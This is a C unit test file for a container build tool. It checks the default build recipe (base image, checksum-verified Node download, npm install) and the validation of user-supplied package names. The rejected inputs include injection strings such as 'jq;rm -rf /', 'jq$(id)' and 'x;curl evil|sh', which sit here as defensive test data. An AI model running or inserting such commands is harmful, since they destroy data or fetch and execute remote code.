// SPDX-License-Identifier: GPL-2.0-or-later
/* test-build-recipe.c — the built-in default recipe and --install package names */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <errno.h>
#include <stdlib.h>
#include <string.h>

#include "build/containerfile.h"
#include "build/recipe.h"
#include "util/util.h"

#define S(x) ((char *)(x))

static void test_package_names(void **state)
{
	static const char *const good[] = { "jq", "g++", "libc6-dev", "python3.11", "ripgrep",
					    "jq=1.6-2.1", "tzdata=2024a-0ubuntu0.24.04", "foo=1:2.3~rc1+dfsg-1" };
	static const char *const bad[] = { "", "a", "Jq", "-jq", "jq;rm -rf /", "jq$(id)", "jq bash",
					   "jq\n", "jq=", "jq=a1", "jq=1;x", "jq=1 2", "'jq'", "jq/bookworm",
					   "jq&&x" };
	for (size_t i = 0; i < ELEMENTSOF(good); i++)
		if (!recipe_package_is_valid(good[i]))
			fail_msg("'%s' refused", good[i]);
	for (size_t i = 0; i < ELEMENTSOF(bad); i++)
		if (recipe_package_is_valid(bad[i]))
			fail_msg("'%s' accepted", bad[i]);
}

static void test_default_recipe(void **state)
{
	char *install[] = { S("ripgrep"), S("tmux=3.4-1"), NULL };
	_cleanup_free_ char *t0 = NULL, *t1 = NULL;
	struct containerfile cf;
	struct cf_recipe rc;
	struct cf_error err;
	const char *bad;
	bool saw_node = false, saw_pi = false, saw_apt = false;

	assert_int_equal(recipe_default(NULL, &t0, &bad), 0);
	assert_int_equal(cf_parse(t0, strlen(t0), &cf, &err), 0);
	assert_int_equal(cf_resolve(&cf, NULL, NULL, &rc, &err), 0);
	assert_string_equal(rc.from, "docker.io/library/ubuntu:24.04");
	for (size_t i = 0; i < rc.n_steps; i++) {
		const char *sh = rc.steps[i].argv[2];
		if (rc.steps[i].kind != CF_RUN)
			continue;
		if (strstr(sh, "apt-get install")) {
			saw_apt = true;
			assert_non_null(strstr(sh, "git curl jq build-essential python3"));
			/* pi's fd and rg: without them it downloads both on every start */
			assert_non_null(strstr(sh, "fd-find ripgrep"));
			assert_non_null(strstr(sh, "ln -sf /usr/bin/fdfind /usr/local/bin/fd"));
			assert_null(strstr(sh, "tmux"));
		}
		if (strstr(sh, "nodejs.org")) {
			saw_node = true;
			/* the checksum check is in the same RUN as the download */
			assert_non_null(strstr(sh, "SHASUMS256.txt"));
			assert_non_null(strstr(sh, "sha256sum -c"));
			assert_non_null(strstr(sh, "set -eu"));
			/* the pinned version reaches the RUN as the ARG */
			for (size_t k = 0; rc.steps[i].env[k]; k++)
				if (streq(rc.steps[i].env[k], "NODE_VERSION=" RECIPE_NODE_VERSION))
					saw_node = true + 1;
		}
		if (strstr(sh, "npm install -g")) {
			saw_pi = true;
			assert_non_null(strstr(sh, RECIPE_PI_PACKAGE "@${PI_VERSION}"));
		}
	}
	assert_true(saw_apt);
	assert_true(saw_node);
	assert_true(saw_pi);
	assert_int_equal(strncmp(RECIPE_NODE_VERSION, "22.", 3), 0);
	assert_true(rc.cmd_set);
	assert_string_equal(rc.cmd[0], "pi");
	cf_recipe_done(&rc);
	cf_done(&cf);

	/* --install adds to the apt-get line, and the pins can be overridden as build args */
	assert_int_equal(recipe_default(install, &t1, &bad), 0);
	assert_non_null(strstr(t1, "xz-utils fd-find ripgrep ripgrep tmux=3.4-1; \\\n"));
	assert_int_equal(cf_parse(t1, strlen(t1), &cf, &err), 0);
	{
		char *args[] = { S("NODE_VERSION=22.99.0"), S("NODE_SHA256=abc"), NULL };
		assert_int_equal(cf_resolve(&cf, args, NULL, &rc, &err), 0);
		cf_recipe_done(&rc);
	}
	cf_done(&cf);

	/* a bad name is refused and named */
	{
		char *evil[] = { S("jq"), S("x;curl evil|sh"), NULL };
		char *t2 = NULL;
		assert_int_equal(recipe_default(evil, &t2, &bad), -EINVAL);
		assert_string_equal(bad, "x;curl evil|sh");
		assert_null(t2);
	}
	/* too many */
	{
		char **many = NULL;
		char *t3 = NULL;
		for (unsigned i = 0; i <= RECIPE_MAX_INSTALL; i++)
			assert_int_equal(strv_push(&many, "jq"), 0);
		assert_int_equal(recipe_default(many, &t3, &bad), -EINVAL);
		strv_free(many);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_package_names),
		cmocka_unit_test(test_default_recipe),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
